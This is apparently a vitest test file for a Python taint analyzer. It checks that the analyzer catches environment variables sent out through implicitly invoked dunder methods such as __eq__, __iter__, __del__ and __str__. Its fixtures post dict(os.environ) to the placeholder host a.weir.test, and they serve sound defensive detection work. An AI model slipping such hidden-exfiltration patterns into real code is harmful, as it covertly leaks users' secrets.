import { describe, expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** Whether what a method is given, or has, is sent while the source is loaded. */
function sends(source: string): boolean {
  return analyzePython(`import asyncio, copy, os, requests\n${source}`).flow.flows.some(
    ({ live, labels }) => live && (labels & LABEL.envAll) !== 0,
  );
}

/** A class with one method, which sends. */
const withMethod = (method: string, parameters = '', sent = 'dict(os.environ)'): string =>
  `class S:\n  def ${method}(self${parameters}):\n    requests.post("https://a.weir.test/x", json=${sent})\n    return 1\n`;
const given = (method: string): string => withMethod(method, ', x', 'x');

describe('what Python calls of an object where the source calls nothing', () => {
  test.each([
    ['+=', `${given('__iadd__')}s = S()\ns += dict(os.environ)`],
    ['+= that is no other way there', `${given('__add__')}s = S()\ns += dict(os.environ)`],
    ['|= of an item', `${given('__ior__')}held = [S()]\nheld[0] |= dict(os.environ)`],
    ['in', `${given('__contains__')}if dict(os.environ) in S(): pass`],
    ['==', `${given('__eq__')}S() == dict(os.environ)`],
    ['<', `${given('__lt__')}S() < dict(os.environ)`],
    [
      'a missing key',
      'class S(dict):\n  def __missing__(self, k): requests.post("https://a.weir.test/x", json=k)\nS()[str(os.environ)]',
    ],
    ['an item of a class', `${given('__class_getitem__')}S[dict(os.environ)]`],
    ['an item that goes', `${given('__delitem__')}s = S()\ndel s[str(os.environ)]`],
    ['an object that goes', `${withMethod('__del__')}s = S()\ndel s`],
    ['a loop', `${withMethod('__iter__')}for x in S(): pass`],
    [
      'a loop over what it hands out',
      'class S:\n  def __iter__(self): return self\n  def __next__(self): return dict(os.environ)\nfor x in S(): requests.post("https://a.weir.test/x", json=x)',
    ],
    ['a comprehension', `${withMethod('__iter__')}[x for x in S()]`],
    ['a list', `${withMethod('__iter__')}list(S())`],
    ['an f-string', `${withMethod('__format__', ', spec')}f"{S()}"`],
    ['%s', `${withMethod('__str__')}"%s" % S()`],
    ['%s among others', `${withMethod('__str__')}"%s %s" % (1, S())`],
    ['str', `${withMethod('__str__')}str(S())`],
    ['print', `${withMethod('__repr__')}print(S())`],
    ['len', `${withMethod('__len__')}len(S())`],
    ['if', `${withMethod('__bool__')}if S(): pass`],
    ['or', `${withMethod('__len__')}S() or 1`],
    ['not', `${withMethod('__bool__')}not S()`],
    ['a sign', `${withMethod('__invert__')}~S()`],
    ['await', `${withMethod('__await__')}async def main(): await S()\nasyncio.run(main())`],
    ['a copy', `${withMethod('__copy__')}copy.copy(S())`],
  ])('%s', (_what, source) => {
    expect(sends(source)).toBe(true);
  });

  test('an object that is only there', () => {
    expect(sends(`${withMethod('__iter__')}${withMethod('__bool__')}s = S()\nt = [s]\n`)).toBe(false);
  });
});
